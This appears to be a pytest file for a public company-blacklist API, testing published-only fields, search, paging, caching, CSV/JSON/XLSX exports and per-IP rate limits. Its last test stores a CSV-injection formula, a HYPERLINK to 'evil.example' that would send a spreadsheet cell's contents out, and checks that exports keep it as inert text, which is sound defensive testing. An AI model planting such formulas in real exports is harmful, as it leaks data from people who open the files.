"""The public blacklist (no key): published entries only, public fields only, search,
exports for mirrors, caching headers and the per-IP rate limit."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import httpx
import openpyxl
import orjson

from service.app import create_app
from service.clock import FixedClock
from service.settings import Settings
from tests.api._blacklist import (
    ENTRY_KEYS,
    EXPORT_KEYS_ORDER,
    REMOVAL_KEYS,
    SHENYANG,
    T0,
    code,
    listed,
    set_day,
    step,
)

LIAOHE = "盘锦辽河乳业有限公司"


MACHINE = {"lang": "en", "bom": "false"}  # the download form for programs


async def three(client: httpx.AsyncClient, h: dict[str, str]) -> tuple[str, str, str]:
    """A: listed and published; B: listed, never published; C: published, then removed."""
    a, b, c = code(101), code(102), code(103, region=SHENYANG)
    await listed(client, h, a, "PA", name=LIAOHE)
    await listed(client, h, b, "PB", publish=False, name="盘锦未公示食品有限公司")
    entry = await listed(client, h, c, "PC", name="沈阳ＡＢＣ线缆有限责任公司")
    await step(client, h, entry["id"], "remove", {"removed_on": T0.isoformat(), "reason": "error"})
    return a, b, c


async def search(client: httpx.AsyncClient, **params: Any) -> list[str]:
    r = await client.get("/public/v1/blacklist", params=params)
    assert r.status_code == 200, r.text
    return [e["code"] for e in r.json()["items"]]


async def test_public_fields_only_and_only_published(
    client: httpx.AsyncClient, national: Any
) -> None:
    a, b, c = await three(client, national.headers)
    r = await client.get("/public/v1/blacklist")
    assert r.status_code == 200
    items = r.json()["items"]
    assert [e["code"] for e in items] == [c, a]  # newest first; B never published
    assert [set(e) for e in items] == [REMOVAL_KEYS, ENTRY_KEYS]
    by_code = {e["code"]: e for e in items}
    assert by_code[a] == {
        "code": a,
        "name": LIAOHE,
        "region_code": "211100",
        "category": "quality_safety",
        "reason": "生产销售不符合保障人体健康和人身、财产安全的国家标准的产品",
        "legal_basis": "《市场监督管理严重违法失信名单管理办法》第七条",
        "authority": "national CN",
        "remedy": "六十日内申请行政复议或者六个月内提起行政诉讼",
        "decided_on": "2026-06-15",
        "expires_on": "2029-06-15",
        "removed_on": None,
        "removal_reason": None,
        "status": "listed",
    }
    # Art.18: the removal record only — the offence's reason and basis are gone.
    assert by_code[c] == {
        "code": c,
        "name": "沈阳ＡＢＣ线缆有限责任公司",
        "category": "quality_safety",
        "decided_on": "2026-06-15",
        "removed_on": "2026-06-15",
        "removal_reason": "error",
        "removal_authority": "national CN",
        "status": "removed",
    }

    lookup = (await client.get(f"/public/v1/blacklist/{a}")).json()
    assert set(lookup) == {"code", "listed", "entries"}
    assert lookup["listed"] is True
    assert [set(e) for e in lookup["entries"]] == [ENTRY_KEYS]
    assert (await client.get(f"/public/v1/blacklist/{b}")).json() == {
        "code": b,
        "listed": False,
        "entries": [],
    }
    assert await search(client, status="listed") == [a]
    assert await search(client, status="removed") == [c]
    assert await search(client, region="2101") == [c]
    r = await client.get(f"/public/v1/blacklist/{a[:17]}0")
    assert r.status_code == 422
    assert r.json()["errors"][0]["rule"] == "uscc_check"


async def test_search_by_name_and_code(client: httpx.AsyncClient, national: Any) -> None:
    a, _, c = await three(client, national.headers)
    assert await search(client, q="辽河") == [a]
    assert await search(client, q="盘锦辽河乳业有限责任公司") == [a]  # other company form
    assert await search(client, q="盘锦 辽河 乳业") == [a]
    assert await search(client, q="ａｂｃ线缆") == [c]  # full-width, any case
    assert await search(client, q="盘锦辽和乳业") == [a]  # 和 for 河: fuzzy
    assert await search(client, q="北京烤鸭") == []
    assert await search(client, q="未公示") == []  # B exists but is not public
    assert await search(client, q=a.lower()) == [a]
    assert await search(client, code=f"{a[8:16]}-{a[16]}") == [a]  # organization code
    r = await client.get("/public/v1/blacklist", params={"code": "XYZ"})
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"] == "code"


async def test_search_pages_with_a_cursor(client: httpx.AsyncClient, national: Any) -> None:
    h = national.headers
    codes = [code(110 + i) for i in range(3)]
    for i, uscc in enumerate(codes):
        await listed(client, h, uscc, f"PG{i}", name=f"盘锦辽河{i}号乳业有限公司")
    for params in ({}, {"q": "辽河"}):
        seen: list[str] = []
        cursor = None
        while True:
            page = (
                await client.get(
                    "/public/v1/blacklist",
                    params={**params, "limit": 2, **({"cursor": cursor} if cursor else {})},
                )
            ).json()
            seen += [e["code"] for e in page["items"]]
            cursor = page["next_cursor"]
            if cursor is None:
                break
        assert seen == codes[::-1], params
    r = await client.get("/public/v1/blacklist", params={"cursor": "bm9wZQ"})
    assert r.status_code == 422


async def test_cache_headers_and_etag(client: httpx.AsyncClient, national: Any) -> None:
    a, _, _ = await three(client, national.headers)
    for path in ("/public/v1/blacklist", f"/public/v1/blacklist/{a}"):
        r = await client.get(path)
        assert r.headers["cache-control"].startswith("public")
        tag = r.headers["etag"]
        again = await client.get(path, headers={"If-None-Match": tag})
        assert again.status_code == 304
        assert again.content == b""


async def test_export_full_and_delta(
    client: httpx.AsyncClient, national: Any, clock: FixedClock
) -> None:
    h = national.headers
    a, _, c = await three(client, h)
    r = await client.get("/public/v1/blacklist/export", params={"format": "csv", **MACHINE})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert list(rows[0]) == list(EXPORT_KEYS_ORDER)
    assert [(x["code"], x["status"]) for x in rows] == [(a, "listed"), (c, "removed")]

    data = orjson.loads((await client.get("/public/v1/blacklist/export?format=json")).content)
    assert [set(e) for e in data["items"]] == [ENTRY_KEYS, REMOVAL_KEYS]
    assert data["fields"] == list(EXPORT_KEYS_ORDER)

    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx", "lang": "en"})
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == EXPORT_KEYS_ORDER
    assert [v[0] for v in values[1:]] == [a, c]

    # A month later A is removed: the delta since then holds only that removal.
    set_day(clock, date(2026, 7, 15))
    items = (await client.get("/v1/blacklist?status=listed", headers=h)).json()["items"]
    entry = next(e for e in items if e["code"] == a)
    await step(client, h, entry["id"], "remove", {"removed_on": "2026-07-15", "reason": "error"})
    delta = await client.get(
        "/public/v1/blacklist/export", params={"since": "2026-07-01", **MACHINE}
    )
    rows = list(csv.DictReader(io.StringIO(delta.text)))
    assert [(x["code"], x["status"], x["removed_on"]) for x in rows] == [
        (a, "removed", "2026-07-15")
    ]
    # Nothing since tomorrow: still a valid file with its header row.
    for fmt in ("csv", "json", "xlsx"):
        r = await client.get(
            "/public/v1/blacklist/export",
            params={"since": "2026-07-16", "format": fmt, **MACHINE},
        )
        assert r.status_code == 200
        if fmt == "csv":
            assert r.text == ",".join(EXPORT_KEYS_ORDER) + "\r\n"
        elif fmt == "json":
            assert orjson.loads(r.content)["items"] == []
        else:
            rows_x = list(openpyxl.load_workbook(io.BytesIO(r.content)).active.values)
            assert rows_x == [EXPORT_KEYS_ORDER]
    r = await client.get("/public/v1/blacklist/export", params={"since": "yesterday"})
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"] == "since"


async def test_rate_limit(settings: Settings, clock: FixedClock) -> None:
    app = create_app(settings.model_copy(update={"public_rate_limit": 3}), clock=clock)
    transport = httpx.ASGITransport(app=app, client=("203.0.113.7", 4000))
    try:
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as c:
            remaining = []
            for _ in range(3):
                r = await c.get("/public/v1/blacklist")
                assert r.status_code == 200
                assert r.headers["ratelimit-limit"] == "3"
                assert 0 < int(r.headers["ratelimit-reset"]) <= 60
                remaining.append(r.headers["ratelimit-remaining"])
            assert remaining == ["2", "1", "0"]
            r = await c.post("/public/v1/screen", json={"codes": []})  # every public route
            assert r.status_code == 429
            assert r.headers["content-type"] == "application/problem+json"
            assert 1 <= int(r.headers["retry-after"]) <= 60
            assert r.json()["rule"] == "public-rate-limit"
            assert r.headers["ratelimit-remaining"] == "0"
            # The portal's search and screening pages draw on the same budget.
            assert (await c.get("/blacklist", params={"q": "乳业"})).status_code == 429
            assert (await c.post("/screen", data={"codes": "x"})).status_code == 429
            # The agency API is not rate-limited per IP.
            assert (await c.get("/healthz")).status_code == 200
        other = httpx.ASGITransport(app=app, client=("198.51.100.1", 4000))
        async with httpx.AsyncClient(transport=other, base_url="http://test") as c:
            assert (await c.get("/public/v1/blacklist")).status_code == 200
    finally:
        await app.state.db.dispose()


async def test_export_opens_right_in_excel_on_chinese_windows(
    client: httpx.AsyncClient, national: Any
) -> None:
    a, _, c = await three(client, national.headers)
    r = await client.get("/public/v1/blacklist/export", params={"format": "csv"})
    assert r.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["统一社会信用代码", "企业名称", "行政区划代码"]
    col = {title: i for i, title in enumerate(rows[0])}
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[a][col["状态"]] == "在列" and by_code[c][col["状态"]] == "已移出"
    assert by_code[c][col["移出原因"]] == "错误列入更正"
    assert "（第" in by_code[a][col["列入类别"]]
    plain = await client.get("/public/v1/blacklist/export", params={"bom": "false"})
    assert plain.content == r.content[3:]

    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[0] == "统一社会信用代码"
    decided = header.index("列入日期")
    assert isinstance(sheet.cell(row=2, column=decided + 1).value, date)  # a date, not text
    assert sheet.cell(row=2, column=decided + 1).number_format == "yyyy-mm-dd"
    for i, title in enumerate(header, start=1):
        width = sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
        assert width >= 2 * len(title), f"column {title} is narrower than its header"
    # the English switch (the portal's cookie) gives the API's names and values
    client.cookies.set("lang", "en")
    try:
        english = await client.get("/public/v1/blacklist/export", params={"bom": "false"})
    finally:
        client.cookies.clear()
    assert english.text.startswith(",".join(EXPORT_KEYS_ORDER))


async def test_exported_cells_cannot_attack_the_reader(
    client: httpx.AsyncClient, national: Any
) -> None:
    """OWASP CSV injection: a name that is a formula stays text in every download."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    code_ = code(111)
    await listed(client, national.headers, code_, "PX", name=evil)
    for params in ({"format": "csv"}, {"format": "csv", **MACHINE}):
        r = await client.get("/public/v1/blacklist/export", params=params)
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert rows[1][1] == "'" + evil
    r = await client.get("/public/v1/blacklist/export", params={"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cell = book.active.cell(row=2, column=2)
    assert cell.value == evil and cell.data_type == "s"  # a string, never a formula
